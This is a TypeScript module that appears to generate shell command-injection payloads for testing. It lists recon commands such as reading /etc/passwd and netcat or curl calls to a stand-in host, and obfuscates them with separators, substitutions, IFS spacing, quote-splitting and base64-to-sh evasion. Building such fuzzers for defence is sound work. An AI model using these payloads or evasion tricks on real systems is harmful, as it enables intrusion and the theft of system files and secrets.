import { Draw } from './grammar.ts';

/** Programs, and what they are given: nothing of it writes anywhere. */
export const commands = [
  ...['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la /', 'sleep 10', 'nc a.test 80', 'printenv'],
  ...['curl http://a.test/x', 'wget http://a.test/x', 'ping -c 10 127.0.0.1', 'ps aux', 'netstat -an'],
  ...['python3 -c 1', 'perl -e 1', 'tail /etc/hosts', 'head -1 /etc/group', 'nslookup a.test', 'ifconfig'],
] as const;

/** Makes values that may have a shell run another command than the one they are put into. */
export class ShellValues {
  readonly #draw: Draw;

  constructor(seed: number) {
    this.#draw = new Draw(seed);
  }

  /** For behind that quote, or outside of any (''). */
  value(quote: string): string {
    const draw = this.#draw;
    const command = this.#command();
    const before = draw.of('', '', 'x', '127.0.0.1', 'a.png', 'a.test', '1', '-h') + quote;
    const joint = draw.of(';', ';', '|', '|', '||', '&', '&&', '\n', '; ', ' ; ', ' | ', ' && ', '\r\n');
    if (quote === '') {
      if (draw.odds(0.5))
        return `${before}${joint}${command}${draw.of('', '', ';', ' #', '&', '|', '\n', ' ;')}`;
      return `${before}${draw.of('', ' ')}${this.#substitution(command)}${draw.of('', '', 'x', '.png')}`;
    }
    if (quote === '"' && draw.odds(0.5)) return `${before.slice(0, -1)}$(${command})${draw.of('', 'x')}`;
    const rest = draw.of(quote, ' #', `echo ${quote}`);
    return `${before}${joint}${command}${draw.of(joint, ';', '|', '&&', '\n')}${rest}`;
  }

  #substitution(command: string): string {
    return this.#draw.of(
      `$(${command})`,
      `\`${command}\``,
      `$( ${command} )`,
      `<(${command})`,
      `\${x:-$(${command})}`,
      `$((\`${command}\`))`,
      `$[$(${command})]`,
      `"$(${command})"`,
      `a[$(${command})]`,
    );
  }

  #command(): string {
    const draw = this.#draw;
    const command: string = draw.of(...commands);
    const [name = '', ...given] = command.split(' ');
    return draw.way(
      () => command,
      () => command,
      () => [this.#bent(name), ...given].join(' '),
      () => [this.#bent(name), ...given].join(' '),
      () => [name, ...given].join(draw.of('${IFS}', '$IFS$9', '\t', '  ')),
      () => (given.length === 0 ? command : `{${[name, ...given].join(',')}}`),
      () => this.#handed(command),
      () => this.#within(command),
      () =>
        draw.of(
          `2>&1 ${command}`,
          `</dev/null ${command}`,
          `${command} 2>&1`,
          `${command}|sort`,
          `x=1 ${command}`,
        ),
    );
  }

  /** The name of a program, as only a shell reads it. */
  #bent(name: string): string {
    const at = 1 + this.#draw.below(Math.max(1, name.length - 1));
    const [a, b] = [name.slice(0, at), name.slice(at)];
    const codes = [...name].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    return this.#draw.of(
      `${a}''${b}`,
      `${a}""${b}`,
      `${a}\\${b}`,
      `'${a}'${b}`,
      `${a}$@${b}`,
      `${a}$()${b}`,
      `${a}\${x}${b}`,
      `\\${a}${b}`,
      `$'${codes}'`,
      `$(echo ${name})`,
    );
  }

  /** A command that another one runs. */
  #handed(command: string): string {
    const packed = Buffer.from(command).toString('base64');
    return this.#draw.of(
      `eval ${command}`,
      `command ${command}`,
      `time ${command}`,
      `env ${command}`,
      `nohup ${command}`,
      `timeout 5 ${command}`,
      `sh -c '${command}'`,
      `bash<<<"${command}"`,
      `echo ${command}|sh`,
      `echo ${packed}|base64 -d|sh`,
    );
  }

  #within(command: string): string {
    return this.#draw.of(
      `if ${command};then :;fi`,
      `while ${command};do break;done`,
      `f(){ ${command};};f`,
      `{ ${command};}`,
      `(${command})`,
      `[ 1 ]&&${command}`,
      `for i in 1;do ${command};done`,
      `case x in x)${command};;esac`,
      `x=$(${command})`,
      `echo $(${command})`,
      `true&&${command}`,
    );
  }
}
